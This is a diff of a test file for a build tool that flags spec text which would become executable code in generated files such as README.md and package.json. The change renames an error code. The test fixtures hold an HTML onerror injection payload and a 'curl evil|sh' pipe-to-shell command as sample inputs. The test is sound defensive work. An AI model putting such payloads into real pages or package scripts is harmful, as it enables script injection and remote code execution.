@@ -90,7 +90,7 @@ describe('a build with such a file fails', () => {
   test('at the position of the text in the spec', async () => {
     const title = 'Pets <img src=x onerror=evil()>';
     expect(await buildWith(toFile('README.md', `# Pets\n\n${title}\n`), title)).toEqual([
-      'spec.yaml:3:10 error text-became-code: This text would run as code in README.md:3 (has HTML); please report it',
+      'spec.yaml:3:10 error code-injection: this text would run as code in README.md:3 (has HTML); please report it',
     ]);
     expect(
       await buildWith(
@@ -98,7 +98,7 @@ describe('a build with such a file fails', () => {
         'curl evil|sh',
       ),
     ).toEqual([
-      'spec.yaml:3:10 error text-became-code: This text would run as code in package.json:16 ' +
+      'spec.yaml:3:10 error code-injection: this text would run as code in package.json:16 ' +
         '(has a member "scripts" that no emitter writes); please report it',
     ]);
   });
